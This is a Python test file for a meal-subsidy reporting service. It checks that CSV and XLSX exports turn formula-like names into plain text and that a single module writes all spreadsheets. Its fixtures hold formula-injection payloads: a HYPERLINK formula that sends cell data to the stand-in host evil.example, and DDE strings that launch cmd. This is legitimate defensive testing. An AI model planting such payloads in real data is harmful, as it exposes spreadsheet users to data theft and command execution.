"""Exports that stay data (导出文件不含公式): names an admin typed, like `=HYPERLINK(...)`, open as
text in a partner's Excel, WPS or LibreOffice, whatever character they begin with and whatever
separator a reader splits on (OWASP's CSV injection rule, `reports.render.spreadsheet_text`)."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from meals import service
from meals.models import FundingAgreement, MealPoint
from reports.models import FORMATS
from reports.queries import Column, Sheet
from reports.render import MEDIA_TYPES, YUAN, render
from tests.fixtures.builders import staff_token
from tests.fixtures.month import Month

ROOT = Path(__file__).resolve().parents[2]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
PACKAGES = ("accounts", "api", "bench", "cli", "linli", "meals", "migrations", "orgs", "points", "reports")
PACKAGES += ("scans", "volunteer", "workers")
SEPARATORS = r"[,;\t\r\n]"
OUR_NUMBER = re.compile(r'"*-\d+(\.\d+)?"*')  # money and counts the report computed, e.g. -11.50
POINT = '=HYPERLINK("http://evil.example/?d="&A1,"详情")'
NAMES = {
    "government": "+1+cmd|' /C calc'!A0",
    "enterprise": "-2+3",  # partner 1's
    "charity": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=2+2",
    "separator": '县补贴;=3+3,"-4',
    "full_width": "＝5+5",
}
ESCAPED = {  # each name as it must appear (in front of " 补贴 subsidy" in the column titles)
    "government": "'+1+cmd|' /C calc'!A0",
    "enterprise": "'-2+3",
    "charity": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "'\t'=1+1",
    "cr": "'\r'=2+2",
    "separator": "县补贴;'=3+3,\"'-4",
    "full_width": "'＝5+5",
}


def naive_cells(text: str) -> list[str]:
    """Every cell a reader could start, splitting on any separator and ignoring quotes."""
    return re.split(SEPARATORS, text)


def assert_no_formula_starts(text: str):
    bad = [
        c
        for c in naive_cells(text)
        if c.lstrip('"')[:1] in DANGEROUS and c.lstrip('"') and not OUR_NUMBER.fullmatch(c)
    ]
    assert not bad, bad[:10]


def assert_workbook_is_data(content: bytes) -> list[str]:
    """No formula and no error value in any cell; every text neutralised. The texts, returned."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    texts = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type in ("s", "n", "d"), (
                    ws.title,
                    cell.coordinate,
                    cell.data_type,
                    cell.value,
                )
                if isinstance(cell.value, str):
                    assert cell.data_type == "s" and cell.value[:1] not in DANGEROUS, cell.value
                    texts.append(cell.value)
    assert_no_formula_starts("\n".join(texts))
    return texts


@pytest.fixture
def month(client, rt, clock):
    m = Month(rt, client, clock)
    with rt.tx() as s:
        # names set in the database: the service strips leading tabs and line breaks, older rows
        # and other paths may not have
        s.get(MealPoint, m.point.id).name = POINT
        for key in ("government", "enterprise", "charity"):
            s.get(FundingAgreement, getattr(m, key)).name = NAMES[key]
        for n, key in enumerate(("tab", "cr", "separator", "full_width")):
            a = service.create_agreement(
                s,
                service.AgreementInput(
                    name="待改名",
                    funder_kind="charity",
                    stack_order=10 + n,
                    starts_on=date(2030, 6, 1),
                    ends_on=date(2030, 12, 31),
                    budget_cap=1_000,
                    schedule=[{"categories": ["*"], "slots": ["breakfast"], "amount": 100}],
                    meal_point_ids=[m.point.id],
                ),
                m.rt.clock.now(),
            )
            a.name = NAMES[key]
    return m


def test_names_that_look_like_formulas_stay_text_in_csv_and_xlsx(month, client):
    admin = staff_token(client, "admin_a")
    partner = staff_token(client, "partner1")
    for who, ask, names in (
        (admin, {"internal": True}, list(NAMES)),
        (partner, {}, ["enterprise"]),
    ):
        _, got = month.report(who, format="csv", **ask)
        text = got.content.decode("utf-8-sig")
        assert "\"'" + POINT.replace('"', '""') + '"' in text  # quoted, the apostrophe in front
        for key in names:
            assert '"' + ESCAPED[key].replace('"', '""') + ' 补贴 subsidy（元）"' in text, key
            assert '"' + ESCAPED[key].replace('"', '""') + '"' in text, key  # by_tier and budgets rows
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert "'" + POINT in {f for r in rows for f in r}
        assert_no_formula_starts(text)
        if who is admin:  # negative money stays a number (the reversed subsidy)
            assert "-11.50" in {f for r in rows for f in r}

        _, got = month.report(who, format="xlsx", **ask)
        texts = assert_workbook_is_data(got.content)
        assert "'" + POINT in texts
        for key in names:
            # a bare CR does not survive XML (it is read back as a line feed)
            escaped = ESCAPED[key].replace("\r", "\n")
            assert escaped in texts and escaped + " 补贴 subsidy（元）" in texts, key
        book = openpyxl.load_workbook(io.BytesIO(got.content))
        money = [c for ws in book.worksheets for r in ws.iter_rows() for c in r if c.number_format == YUAN]
        assert money and all(c.data_type == "n" for c in money)  # money is numbers, not text


def test_every_export_format_neutralises_every_text_cell():
    """Walks every format a report is written in: the spreadsheets (CSV, XLSX) turn every text cell,
    wherever it stands (headings, rows, totals, a money column's `<5`), into data; JSON is for
    programs and keeps each value exact."""
    assert set(FORMATS) == set(MEDIA_TYPES) == {"json", "csv", "xlsx"}  # a new format: decide here
    bad = [*(c + "1+1" for c in DANGEROUS), "a,=1", "a;+1", 'a;"-1', "#N/A", "#REF!", "a\x01b"]
    sheet = Sheet(
        "names",
        "名称 names",
        [Column("name", "名称", "text"), *(Column(f"c{i}", t, "fen") for i, t in enumerate(bad))],
        rows=[[t, *([-150] * len(bad))] for t in bad] + [["<5", *(["<5"] * len(bad))]],
        totals=["合计 total", *([-150 * len(bad)] * len(bad))],
    )
    header = {"title": "=标题", "period_start": "2030-06-01", "period_end": "2030-06-30"}
    for fmt in FORMATS:
        content = render(fmt, header, [sheet])
        if fmt == "json":
            body = json.loads(content)
            assert [r["name"] for r in body["sheets"][0]["rows"]][: len(bad)] == bad
            assert [c["title"] for c in body["sheets"][0]["columns"]][1:] == bad
            continue
        if fmt == "csv":
            text = content.decode("utf-8-sig")
            assert_no_formula_starts(text)
            fields = [f for r in csv.reader(io.StringIO(text, newline="")) for f in r]
        else:
            fields = assert_workbook_is_data(content)
        assert "'=1+1" in fields and "'@1+1" in fields and "a;'+1" in fields and "a\ufffdb" in fields
        assert "#N/A" in fields and "<5" in fields and fields[0].startswith("'=标题")


def test_reports_render_is_the_only_writer_of_spreadsheets():
    """Every CSV and XLSX the project writes goes through `reports.render` (card sheets are HTML,
    escaped; certificates are PDF): a module writing one anywhere else must use its one rule."""
    writers = {
        str(path.relative_to(ROOT))
        for package in PACKAGES
        for path in (ROOT / package).rglob("*.py")
        if re.search(r"^\s*(import|from) (csv|openpyxl|xlsxwriter|pandas)\b", path.read_text(), re.M)
    }
    assert writers == {"reports/render.py"}
